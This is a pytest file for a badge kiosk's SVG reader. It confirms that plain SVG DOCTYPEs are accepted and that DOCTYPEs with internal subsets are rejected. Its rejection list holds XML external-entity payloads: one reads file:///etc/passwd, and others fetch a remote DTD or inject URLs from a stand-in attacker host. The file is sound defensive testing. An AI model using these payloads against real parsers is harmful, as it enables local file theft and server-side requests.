"""Baked SVGs with a document type declaration (issue 12, defect 1).

Drawing tools and badge platforms write the standard SVG 1.1 DOCTYPE. A DOCTYPE that only
names the document type (an external id is never fetched) is read like any other SVG; one
with an internal subset (entity declarations, default attributes, external entity
references, or anything else in ``[...]``) is still refused.
"""

from __future__ import annotations

import json

import pytest

from kiosk.domain.baked import extract_baked
from kiosk.domain.payload import MalformedPayload
from kiosk.domain.proofs import read_image
from kiosk.domain.reasons import Reason
from tests.corpus import AWARD_ID, NOW, make_corpus

SVG_11 = ('<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
          '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">')
DECLARES_NOTHING = [
    SVG_11,
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 20010904//EN" '
    '"http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">',
    '<!DOCTYPE svg SYSTEM "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    "<!DOCTYPE svg>",
]
# Everything inside [...] is refused: each of these would change what the reader sees.
INTERNAL_SUBSETS = [
    '<!DOCTYPE svg [<!ENTITY badge "https://evil.example.net/a/1">]>',
    '<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example.net/x.dtd"> %remote;]>',
    # a default attribute would bake a badge into an element that carries none
    '<!DOCTYPE svg [<!ATTLIST openbadges:assertion verify CDATA '
    '"https://evil.example.net/a/1">]>',
    f'{SVG_11[:-1]} [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>',  # Illustrator's form
    "<!DOCTYPE svg []>",
]


def with_doctype(svg: bytes, doctype: str) -> bytes:
    """``svg`` (from the corpus, starting with an XML declaration) with ``doctype`` after it."""
    declaration, sep, rest = svg.decode("utf-8").partition("\n")
    assert declaration.startswith("<?xml") and sep
    return f"{declaration}\n{doctype}\n{rest}".encode()


@pytest.mark.parametrize("doctype", DECLARES_NOTHING)
def test_an_svg_whose_doctype_declares_nothing_is_read(doctype: str) -> None:
    svg = with_doctype(make_corpus().baked_svg("https://example.org/a/1"), doctype)
    proof = extract_baked(svg)
    assert (proof.format, proof.version, proof.text) == ("baked-svg", "ob2",
                                                        "https://example.org/a/1")


def test_an_svg_11_doctype_before_the_svg_without_an_xml_declaration_is_read() -> None:
    body = make_corpus().baked_svg("https://example.org/a/1").decode().partition("\n")[2]
    assert extract_baked(f"{SVG_11}\n{body}".encode()).text == "https://example.org/a/1"


def test_a_signed_ob3_credential_in_an_svg_11_badge_is_ok() -> None:
    corpus = make_corpus()
    svg = with_doctype(corpus.baked_svg(corpus.ob3_vc_jwt("did"), "ob3"), SVG_11)
    proof = read_image(svg, corpus.facts(), NOW)
    assert (proof.format, proof.inner) == ("baked-svg", "ob3-vc-jwt")
    assert proof.signed is not None and proof.signed.award_id == AWARD_ID


def test_a_data_integrity_credential_in_an_svg_11_badge_is_ok() -> None:
    corpus = make_corpus()
    body = json.dumps(corpus.ob3_data_integrity())
    svg = with_doctype(corpus.baked_svg("", "ob3", body=body), SVG_11)
    proof = read_image(svg, corpus.facts(), NOW)
    assert (proof.format, proof.inner) == ("baked-svg", "ob3-data-integrity")


@pytest.mark.parametrize("doctype", INTERNAL_SUBSETS)
def test_an_svg_whose_doctype_declares_anything_is_refused(doctype: str) -> None:
    svg = with_doctype(make_corpus().baked_svg("", body=None), doctype)
    with pytest.raises(MalformedPayload, match="document type") as caught:
        extract_baked(svg)
    assert caught.value.reason is Reason.MALFORMED


def test_an_undeclared_entity_is_never_expanded() -> None:
    """XML 1.0 (4.4.3): with an external DTD that is not read, a reference to an undeclared
    entity is skipped (it names nothing the kiosk could expand); without one it is an error."""
    svg = make_corpus().baked_svg("https://example.org/a/1").replace(
        b'verify="https://example.org/a/1"', b'verify="&badge;"')
    with pytest.raises(MalformedPayload, match="empty"):
        extract_baked(with_doctype(svg, SVG_11))
    with pytest.raises(MalformedPayload, match="not well-formed"):
        extract_baked(with_doctype(svg, "<!DOCTYPE svg>"))
    with pytest.raises(MalformedPayload, match="not well-formed"):
        extract_baked(svg)
